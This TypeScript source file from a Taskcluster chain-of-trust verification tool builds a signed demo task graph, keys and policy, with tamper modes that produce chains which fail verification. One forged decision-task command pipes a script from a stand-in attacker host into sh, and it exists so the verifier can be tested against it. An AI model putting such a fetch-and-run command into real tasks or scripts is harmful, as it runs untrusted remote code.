import { randomBytes } from 'node:crypto';
import { mkdir, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { generateChainOfTrust } from '../cot/generate.js';
import { TASK_GRAPH_NAME } from '../document/names.js';
import { digestBytes } from '../hashing/digest.js';
import { canonicalize } from '../json/canonical.js';
import type { JsonObject } from '../json/parse.js';
import { generateKeyPair } from '../keys/generate.js';
import { loadSigningKey, type SigningKey } from '../keys/keys.js';
import { DirectoryQueue } from '../transport/dir-store.js';
import { certifyKeyFile } from '../trust/certify.js';
import { writeFileAtomic } from '../util/atomic.js';
import { checkOptions } from '../util/options.js';
import { createdTask, type GraphTaskInput, graphEntry, queueDefaults } from './taskgraph.js';
import {
  DEMO_DECISION_IMAGE,
  DEMO_RELEASE_REPOSITORY,
  DEMO_REVISION,
  DEMO_SANDBOX_REPOSITORY,
  DEMO_TREE_POLICY,
  type DemoRepository,
  writeDemoTree,
} from './tree.js';

/**
 * The demo chain builder: a realistic, fully signed Taskcluster task graph in a directory store, built with cot's
 * own key generator, certifier and chain-of-trust generator, for the `cot demo` command and for tests that need a
 * valid chain to break. It never prints, never reads the clock (the reference time is an option) and writes only
 * under the folder it is given. Layout of that folder (the one `cot demo` leaves, and the one `cot verify --queue
 * DIR/queue --policy DIR/policy.yml` reads):
 *
 *   keys/<worker>.key, keys/<worker>.pub   the signing keys (worker: docker-worker, generic-worker, scriptworker, root)
 *   key-repo/                              the OpenPGP key repository the policy names (cot-gpg-keys layout)
 *   ed25519-keys.json                      the generic-worker's ed25519 public key, by worker implementation
 *   policy.yml                             DEMO_POLICY (with a tree: and DEMO_TREE_POLICY)
 *   tree/                                  with a tree: the tree material (./tree.ts, writeDemoTree)
 *   queue/                                 the directory store (DirectoryQueue) with tasks, artifacts, documents
 */

/** The worker implementations whose keys sign the demo chain's documents. */
export type DemoWorker = 'docker-worker' | 'generic-worker' | 'scriptworker';

/** One private signing key per worker implementation (loadSigningKey of `keys/<worker>.key`). */
export type DemoSigningKeys = Record<DemoWorker, SigningKey>;

/** A fresh Taskcluster slugid (v4, "nice" form: the first bit clear), as the queue uses for task ids. */
export function slugid(): string {
  const b = randomBytes(16);
  b[6] = (b[6]! & 0x0f) | 0x40;
  b[8] = (b[8]! & 0x3f) | 0x80;
  b[0] = b[0]! & 0x7f;
  return b.toString('base64url');
}

/**
 * The demo's policy (YAML, written as `policy.yml`): the key repository and ed25519 key file the builder writes,
 * the worker types of the demo graph, and the bounds of the walk. Prebuilt docker images are allowed only for the
 * task types the reference's Firefox configuration allows them for.
 */
export const DEMO_POLICY = `# cot demo policy: which keys, which worker types, how far to go
keyRepo: key-repo
ed25519Keys: ed25519-keys.json
workerTypes:
  releng-3/decision: docker-worker
  releng-3/images: docker-worker
  releng-3/b-linux: docker-worker
  releng-3/b-win2022: generic-worker
  scriptworker-k8s/*: scriptworker
decisionWorkerTypes: [releng-3/decision]
dockerImageWorkerTypes: [releng-3/images]
# prebuilt images (registry names, indexed images) only where the reference's Firefox configuration allows them
prebuiltDockerImageTaskTypes: [decision, action, docker-image]
restrictedScopes: ['project:releng:signing:cert:release-signing', 'project:releng:beetmover:bucket:*']
signatureFormat: either
bounds:
  maxDepth: 10
  maxTasks: 100
`;

/** What writeDemoTrust made: the loaded signing keys and the path of `policy.yml`. */
export interface DemoTrust {
  keys: DemoSigningKeys;
  /** absolute or as given: `join(dir, 'policy.yml')` */
  policy: string;
}

/** Generate the four demo key pairs in `keysDir` (created 0700), dated `keyDate`; returns the generic-worker's public key. */
async function generateDemoKeys(keysDir: string, keyDate: Date): Promise<string> {
  await mkdir(keysDir, { recursive: true, mode: 0o700 });
  const k = (n: string) => join(keysDir, n);
  const pgp = (name: string, userId: string) =>
    generateKeyPair({
      type: 'openpgp',
      pgpAlgorithm: 'ed25519',
      userId,
      out: k(`${name}.key`),
      force: true,
      pubOut: k(`${name}.pub`),
      now: keyDate,
    });
  await pgp('docker-worker', 'demo docker-worker <docker-worker@example.com>');
  const genericWorker = await generateKeyPair({
    type: 'ed25519',
    out: k('generic-worker.key'),
    force: true,
    pubOut: k('generic-worker.pub'),
    now: keyDate,
  });
  await pgp('root', 'demo releng root <root@example.com>');
  await pgp('scriptworker', 'cltsign@scriptworker-1.example.com');
  return genericWorker.publicKey;
}

/**
 * The key repository the policy names (`key-repo`, the cot-gpg-keys layout): the docker-worker key under
 * `docker-worker/2026-11`, the root trusted for scriptworker, and the scriptworker key certified by the root at `now`.
 */
async function writeKeyRepo(dir: string, now: Date): Promise<void> {
  const k = (n: string) => join(dir, 'keys', n);
  const repo = join(dir, 'key-repo');
  await mkdir(join(repo, 'docker-worker/2026-11'), { recursive: true });
  await mkdir(join(repo, 'scriptworker/trusted'), { recursive: true });
  await mkdir(join(repo, 'scriptworker/valid'), { recursive: true });
  // copies written anew (atomically: a symlink at the name is replaced, never written through)
  const copy = async (from: string, to: string) => writeFileAtomic(to, await readFile(from));
  await copy(k('docker-worker.pub'), join(repo, 'docker-worker/2026-11/docker-worker.pub'));
  await copy(k('root.pub'), join(repo, 'scriptworker/trusted/root.pub'));
  await certifyKeyFile({
    withPrivate: k('root.key'),
    keyPublic: k('scriptworker.pub'),
    out: join(repo, 'scriptworker/valid/scriptworker-1.pub'),
    now,
    force: true,
  });
}

/**
 * Write the demo's keys and trust configuration under `dir` (see the module layout): four key pairs dated one day
 * before `now`, the key repository, `ed25519-keys.json` and `policy.yml` (DEMO_POLICY). Files at those names are
 * replaced. Throws the codes of generateKeyPair, certifyKeyFile and loadSigningKey, and OUTPUT_FAILED.
 */
export async function writeDemoTrust(dir: string, now: Date): Promise<DemoTrust> {
  const keysDir = join(dir, 'keys');
  const genericWorkerPublic = await generateDemoKeys(keysDir, new Date(now.getTime() - 86400_000));
  await writeKeyRepo(dir, now);
  await writeFileAtomic(
    join(dir, 'ed25519-keys.json'),
    `${JSON.stringify({ 'generic-worker': [genericWorkerPublic] }, null, 2)}\n`,
  );
  const policy = join(dir, 'policy.yml');
  await writeFileAtomic(policy, DEMO_POLICY);
  const keys: DemoSigningKeys = {
    'docker-worker': await loadSigningKey(join(keysDir, 'docker-worker.key')),
    'generic-worker': await loadSigningKey(join(keysDir, 'generic-worker.key')),
    scriptworker: await loadSigningKey(join(keysDir, 'scriptworker.key')),
  };
  return { keys, policy };
}

/** The task ids of the demo graph, by role. */
interface DemoIds {
  decision: string;
  image: string;
  linux: string;
  windows: string;
  signing: string;
  beetmover: string;
}

/**
 * How `cot demo --tamper-tree` breaks the trace to the tree, every document still signed: `decision`, a decision
 * task its tree did not render (its command changed: TREE_TASK_MISMATCH); `untrusted`, the whole graph (release
 * scopes included) built from a repository the policy does not trust (TREE_SCOPE_NOT_ALLOWED).
 */
export type DemoTreeTamper = 'decision' | 'untrusted';

/** The `--tamper-tree` kinds, in the order help shows them. */
export const DEMO_TREE_TAMPERS: readonly DemoTreeTamper[] = ['decision', 'untrusted'];

/**
 * The decision task, as the repository's .taskcluster.yml makes it (its own task group; tree.ts demoTemplate
 * renders exactly this for tasks_for hg-push), created one hour before `now`; the queue's defaults added
 * (queueDefaults). `forged`: a command the template does not render (someone with the scopes to create a decision
 * task made this one by hand).
 */
function decisionTask(ids: DemoIds, created: Date, repo: DemoRepository, forged: boolean): JsonObject {
  const command = forged
    ? ['run-task', '--', 'sh', '-c', 'curl -sf https://attacker.example/graph.sh | sh']
    : ['run-task', '--', 'taskgraph', 'decision'];
  return queueDefaults({
    provisionerId: 'releng-3',
    workerType: 'decision',
    schedulerId: `demo-level-${repo.level}`,
    taskGroupId: ids.decision,
    created: created.toISOString(),
    deadline: new Date(created.getTime() + 86400_000).toISOString(),
    expires: new Date(created.getTime() + 365 * 86400_000).toISOString(),
    priority: 'very-low',
    scopes: [`assume:repo:${repo.url.replace(/^https:\/\//, '')}:branch:default`],
    payload: {
      image: DEMO_DECISION_IMAGE,
      command,
      maxRunTime: 1800,
      features: { chainOfTrust: true, taskclusterProxy: true },
      env: { DEMO_HEAD_REPOSITORY: repo.url, DEMO_HEAD_REV: DEMO_REVISION },
    },
    metadata: {
      name: 'Decision Task',
      description: 'the cot demo decision task',
      owner: 'release@example.com',
      source: `${repo.url}/raw-file/tip/.taskcluster.yml`,
    },
    tags: { kind: 'decision-task' },
    extra: { tasks_for: 'hg-push' },
  });
}

/** The docker-worker and generic-worker tasks of the graph: the docker image, and the Linux and Windows builds. */
function buildInputs(ids: DemoIds): Record<string, GraphTaskInput> {
  const image = { type: 'task-image', taskId: ids.image, path: 'public/image.tar.zst' };
  return {
    [ids.image]: {
      label: 'docker-image-build',
      kind: 'docker-image',
      provisionerId: 'releng-3',
      workerType: 'images',
      payload: {
        image: 'docker:stable',
        command: ['build-image'],
        maxRunTime: 3600,
        features: { chainOfTrust: true },
        artifacts: {
          'public/image.tar.zst': {
            type: 'file',
            path: '/builds/image.tar.zst',
            expires: { 'relative-datestamp': '1 year' },
          },
        },
      },
    },
    [ids.linux]: {
      label: 'build-linux64',
      kind: 'build',
      provisionerId: 'releng-3',
      workerType: 'b-linux',
      payload: { image, command: ['./mach', 'build'], maxRunTime: 7200, features: { chainOfTrust: true } },
      extra: { chainOfTrust: { inputs: { 'docker-image': ids.image } } },
      dependencies: { 'docker-image': ids.image },
    },
    [ids.windows]: {
      label: 'build-win64',
      kind: 'build',
      provisionerId: 'releng-3',
      workerType: 'b-win2022',
      payload: {
        command: [['mach.bat', 'build']],
        maxRunTime: 7200,
        mounts: [],
        osGroups: [],
        features: { chainOfTrust: true },
      },
    },
  };
}

/** The scriptworker tasks of the graph: signing (of both builds, one optional upstream artifact) and beetmover. */
function scriptworkerInputs(ids: DemoIds): Record<string, GraphTaskInput> {
  return {
    [ids.signing]: {
      label: 'signing',
      kind: 'signing',
      provisionerId: 'scriptworker-k8s',
      workerType: 'signing-3',
      scopes: ['project:releng:signing:cert:release-signing'],
      payload: {
        upstreamArtifacts: [
          {
            taskId: ids.linux,
            taskType: 'build',
            paths: ['public/build/target.tar.gz', 'public/build/target.checksums'],
            formats: ['autograph_gpg'],
          },
          {
            taskId: ids.windows,
            taskType: 'build',
            paths: ['public/build/target.zip'],
            formats: ['autograph_authenticode'],
          },
          {
            taskId: ids.windows,
            taskType: 'build',
            paths: ['public/build/optional-symbols.zip'],
            formats: [],
            optional: true,
          },
        ],
      },
      dependencies: { 'build-linux64': ids.linux, 'build-win64': ids.windows },
    },
    [ids.beetmover]: {
      label: 'beetmover',
      kind: 'beetmover',
      provisionerId: 'scriptworker-k8s',
      workerType: 'beetmover-3',
      scopes: ['project:releng:beetmover:bucket:release'],
      payload: {
        upstreamArtifacts: [
          {
            taskId: ids.signing,
            taskType: 'signing',
            paths: ['public/build/target.tar.gz', 'public/build/target.zip'],
          },
        ],
        releaseProperties: { appName: 'demo', appVersion: '1.0' },
      },
      dependencies: { signing: ids.signing },
    },
  };
}

/** What the demo graph is built from: its repository, and whether its decision task is forged (DemoTreeTamper). */
interface GraphSource {
  repo: DemoRepository;
  forgedDecision: boolean;
}

/**
 * The graph the decision task writes and the tasks the queue then serves, exactly as taskgraph does it:
 * task-graph.json is written before the tasks exist (graphEntry), then each task is created two minutes after the
 * decision task (createdTask). Every task's source lies in `from.repo`; the schedulerId is that repository's level.
 * Returns the graph (task-graph.json content) and every task definition by id.
 */
function demoGraph(
  ids: DemoIds,
  now: Date,
  from: GraphSource,
): { graph: JsonObject; tasks: Record<string, JsonObject> } {
  const decisionCreated = new Date(now.getTime() - 3600_000);
  const tasksCreated = new Date(decisionCreated.getTime() + 120_000);
  const schedulerId = `demo-level-${from.repo.level}`;
  const inputs = { ...buildInputs(ids), ...scriptworkerInputs(ids) };
  const graph: JsonObject = {};
  for (const [id, t] of Object.entries(inputs))
    graph[id] = graphEntry(id, ids.decision, { ...t, source: `${from.repo.url}/file/tip/taskcluster/kinds` });
  const inGraph = new Set(Object.keys(graph));
  const tasks: Record<string, JsonObject> = {
    [ids.decision]: decisionTask(ids, decisionCreated, from.repo, from.forgedDecision),
  };
  for (const [id, entry] of Object.entries(graph))
    tasks[id] = createdTask(entry as JsonObject, {
      decisionTaskId: ids.decision,
      schedulerId,
      created: tasksCreated,
      inGraph,
    });
  return { graph, tasks };
}

/** Each task's artifacts (name -> bytes); binaries are random, the decision task's graph is the real one. */
function demoArtifacts(ids: DemoIds, graph: JsonObject): Record<string, Record<string, Buffer>> {
  return {
    [ids.decision]: {
      // taskgraph writes it with json.dump(sort_keys=True, indent=2)
      [TASK_GRAPH_NAME]: Buffer.from(canonicalize(graph)),
      'public/parameters.yml': Buffer.from('project: demo\nlevel: "3"\n'),
    },
    [ids.image]: { 'public/image.tar.zst': randomBytes(256 * 1024) },
    [ids.linux]: {
      'public/build/target.tar.gz': randomBytes(512 * 1024),
      'public/build/target.checksums': Buffer.from('sha512 …\n'),
    },
    [ids.windows]: { 'public/build/target.zip': randomBytes(512 * 1024) },
    [ids.signing]: {
      'public/build/target.tar.gz': randomBytes(512 * 1024),
      'public/build/target.zip': randomBytes(512 * 1024),
    },
    [ids.beetmover]: { 'public/manifest.json': Buffer.from('{"uploaded": true}\n') },
  };
}

/**
 * The `environment` a worker implementation reports in its document: docker-worker the image hash (and, for the
 * build that used the in-graph image, that image artifact's sha256), generic-worker its instance, scriptworker none.
 */
function workerEnvironment(
  impl: DemoWorker,
  task: JsonObject,
  imageArtifact: Buffer | undefined,
): JsonObject {
  if (impl === 'docker-worker')
    return {
      imageHash: `sha256:${digestBytes(Buffer.from(String(task.workerType)))}`,
      ...(imageArtifact ? { imageArtifactHash: `sha256:${digestBytes(imageArtifact)}` } : {}),
      privateIpAddress: '10.0.0.7',
    };
  if (impl === 'generic-worker')
    return {
      instanceId: 'i-0demo',
      instanceType: 'c5.4xlarge',
      region: 'us-east-1',
      privateIpAddress: '10.0.0.8',
    };
  return {};
}

/** One task as its worker leaves it: the definition and run 0 stored, its artifacts written, its document signed. */
interface RunToSign {
  id: string;
  task: JsonObject;
  artifacts: Record<string, Buffer>;
  impl: DemoWorker;
  environment: JsonObject;
}

async function storeAndSign(
  queue: DirectoryQueue,
  r: RunToSign,
  keys: DemoSigningKeys,
  now: Date,
): Promise<void> {
  await queue.putTask(r.id, r.task);
  await queue.ensureRun(r.id, 0);
  const runDir = join(queue.runDir(r.id, 0), 'artifacts');
  for (const [name, bytes] of Object.entries(r.artifacts)) {
    await mkdir(join(runDir, name, '..'), { recursive: true });
    await writeFile(join(runDir, name), bytes);
  }
  await generateChainOfTrust({
    task: r.task,
    taskId: r.id,
    runId: 0,
    workerGroup: r.impl === 'scriptworker' ? 'scriptworker-k8s' : 'us-east-1',
    workerId: `${r.impl}-1`,
    workerType: String(r.task.workerType),
    environment: r.environment,
    artifactDir: runDir,
    keys: [keys[r.impl]],
    format: r.impl === 'generic-worker' ? 'ed25519' : 'openpgp',
    outDir: join(runDir, 'public'),
    now,
  });
}

/** The repository a demo graph comes from: the sandbox for `untrusted`, else the release repository. */
function demoRepositoryOf(tamperTree: DemoTreeTamper | undefined): DemoRepository {
  return tamperTree === 'untrusted' ? DEMO_SANDBOX_REPOSITORY : DEMO_RELEASE_REPOSITORY;
}

/** Options of buildDemoChain. */
export interface BuildDemoChainOptions {
  /** the directory store the tasks, artifacts and documents are written to (tasks at the new ids are created) */
  queue: DirectoryQueue;
  /** the private keys that sign each worker implementation's documents (writeDemoTrust's `keys`) */
  keys: DemoSigningKeys;
  /** the reference time: documents are signed at `now`, the decision task created one hour before */
  now: Date;
  /** after signing, replace build-linux64's `public/build/target.tar.gz`: the chain must then fail to verify */
  tamper?: boolean;
  /** break the trace to the tree (DemoTreeTamper), every document signed as usual */
  tamperTree?: DemoTreeTamper;
}

/** The chain buildDemoChain made. */
export interface DemoChain {
  /** the task to verify: the beetmover task, the end of the chain */
  taskId: string;
  /** every task id by label: decision, docker-image, build-linux64, build-win64, signing, beetmover (in run order) */
  tasks: Record<string, string>;
  /** the decision task's task-graph.json (as written, canonical JSON) */
  graph: JsonObject;
}

/**
 * Build a realistic chain of trust in a directory store: a decision task (docker-worker), a docker-image task, a
 * Linux build on the in-graph image (docker-worker), a Windows build (generic-worker, ed25519), a signing and a
 * beetmover task (scriptworker): every definition shaped as taskgraph and the queue make it (./taskgraph.ts), every
 * run's artifacts written and its document signed by cot's own generateChainOfTrust, in the order the tasks would
 * run. Task ids are fresh slugids. Verifying `taskId` with DEMO_POLICY at `now` accepts the chain (unless `tamper`).
 * Throws OPTIONS_INVALID (a missing option) and the codes of generateChainOfTrust and DirectoryQueue.putTask.
 */
export async function buildDemoChain(o: BuildDemoChainOptions): Promise<DemoChain> {
  checkOptions('buildDemoChain', o, {
    queue: { kind: 'queue' },
    keys: { kind: 'object' },
    now: { kind: 'date' },
    tamper: { kind: 'boolean', optional: true },
    tamperTree: { kind: 'string', optional: true, oneOf: DEMO_TREE_TAMPERS },
  });
  const ids: DemoIds = {
    decision: slugid(),
    image: slugid(),
    linux: slugid(),
    windows: slugid(),
    signing: slugid(),
    beetmover: slugid(),
  };
  const { graph, tasks } = demoGraph(ids, o.now, {
    repo: demoRepositoryOf(o.tamperTree),
    forgedDecision: o.tamperTree === 'decision',
  });
  const artifacts = demoArtifacts(ids, graph);
  const implOf: Record<string, DemoWorker> = {
    [ids.decision]: 'docker-worker',
    [ids.image]: 'docker-worker',
    [ids.linux]: 'docker-worker',
    [ids.windows]: 'generic-worker',
    [ids.signing]: 'scriptworker',
    [ids.beetmover]: 'scriptworker',
  };
  for (const id of [ids.decision, ids.image, ids.linux, ids.windows, ids.signing, ids.beetmover]) {
    const task = tasks[id]!;
    const impl = implOf[id]!;
    const image = id === ids.linux ? artifacts[ids.image]!['public/image.tar.zst'] : undefined;
    const environment = workerEnvironment(impl, task, image);
    await storeAndSign(o.queue, { id, task, artifacts: artifacts[id]!, impl, environment }, o.keys, o.now);
  }
  if (o.tamper) {
    // an artifact swapped after the worker signed its document
    await writeFile(
      join(o.queue.runDir(ids.linux, 0), 'artifacts/public/build/target.tar.gz'),
      randomBytes(512 * 1024),
    );
  }
  const tasksByLabel = {
    decision: ids.decision,
    'docker-image': ids.image,
    'build-linux64': ids.linux,
    'build-win64': ids.windows,
    signing: ids.signing,
    beetmover: ids.beetmover,
  };
  return { taskId: ids.beetmover, tasks: tasksByLabel, graph };
}

/** Options of buildDemoLab. */
export interface BuildDemoLabOptions {
  /** the folder to build in (created if missing); files at the layout's names are replaced, nothing else touched */
  dir: string;
  /** the reference time (keys dated one day before, documents signed at it) */
  now: Date;
  /** see BuildDemoChainOptions.tamper */
  tamper?: boolean;
  /**
   * give the demo its source tree: the tree material under `dir/tree` (writeDemoTree) and DEMO_TREE_POLICY in
   * `policy.yml`, so that verification rebuilds the decision task from its `.taskcluster.yml` and traces the chain
   * to its repository (implied by `tamperTree`)
   */
  tree?: boolean;
  /** see BuildDemoChainOptions.tamperTree */
  tamperTree?: DemoTreeTamper;
}

/** A folder with the demo's keys, trust configuration and a signed chain in its directory store. */
export interface DemoLab extends DemoChain {
  /** the folder (as given) */
  dir: string;
  /** the directory store at `dir/queue` */
  queue: DirectoryQueue;
  /** the path of `dir/policy.yml`, for loadPolicy */
  policy: string;
}

/**
 * Keys, trust configuration and a signed chain in one folder (writeDemoTrust, with `tree` writeDemoTree, then
 * buildDemoChain into `dir/queue`): what `cot demo` builds, without its folder marker, `demo.json`, verification or
 * report. Throws OPTIONS_INVALID and the codes of writeDemoTrust, writeDemoTree and buildDemoChain.
 */
export async function buildDemoLab(o: BuildDemoLabOptions): Promise<DemoLab> {
  checkOptions('buildDemoLab', o, {
    dir: { kind: 'string' },
    now: { kind: 'date' },
    tamper: { kind: 'boolean', optional: true },
    tree: { kind: 'boolean', optional: true },
    tamperTree: { kind: 'string', optional: true, oneOf: DEMO_TREE_TAMPERS },
  });
  const queue = new DirectoryQueue(join(o.dir, 'queue'));
  const trust = await writeDemoTrust(o.dir, o.now);
  if (o.tree || o.tamperTree !== undefined) {
    // pushed one minute before the decision task was created (one hour before now)
    await writeDemoTree(o.dir, demoRepositoryOf(o.tamperTree), new Date(o.now.getTime() - 3660_000));
    await writeFileAtomic(trust.policy, `${DEMO_POLICY}${DEMO_TREE_POLICY}`);
  }
  const chain = await buildDemoChain({
    queue,
    keys: trust.keys,
    now: o.now,
    tamper: Boolean(o.tamper),
    ...(o.tamperTree === undefined ? {} : { tamperTree: o.tamperTree }),
  });
  return { ...chain, dir: o.dir, queue, policy: trust.policy };
}
